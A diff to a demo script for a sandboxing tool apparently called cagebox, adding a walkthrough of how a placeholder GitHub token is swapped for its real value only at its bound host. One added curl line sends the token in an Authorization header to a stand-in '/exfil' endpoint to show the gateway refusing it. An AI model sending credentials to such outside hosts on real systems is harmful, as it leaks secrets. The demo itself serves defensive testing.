@@ -64,5 +64,19 @@ $cb run --allow api.example.test --policy "$work/policy.yaml" -- sh -c '
   curl -sS -m 5 https://example.com/ || true
 '
 echo
+echo '$ GITHUB_TOKEN=ghp_… cagebox run --allow api.example.test --allow other.example.test --secret GITHUB_TOKEN@api.example.test -- sh -c "…"'
+export GITHUB_TOKEN=ghp_DemoRealToken0000000000000000000000real
+$cb run --allow api.example.test --allow other.example.test --secret GITHUB_TOKEN@api.example.test -- sh -c '
+  echo "# inside the sandbox, \$GITHUB_TOKEN is a placeholder of the same shape:"
+  echo "GITHUB_TOKEN=$GITHUB_TOKEN"
+  echo "# sent to the host it is bound to, the gateway swaps in the real value:"
+  curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test/user
+  echo "# the same placeholder heading anywhere else is refused:"
+  curl -sS -w "  (HTTP %{http_code})\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://other.example.test/exfil
+'
+unset GITHUB_TOKEN
+echo "# what the upstream received (host side):"
+grep "upstream received" "$work/upstream.log" | tail -2 | sed 's/^.*upstream received/  /'
+echo
 echo '$ cagebox events | tail   # every decision is an audit event'
-$cb events | grep -E "egress|dns" | tail -5
+$cb events | grep -E "egress|dns|secret" | tail -6
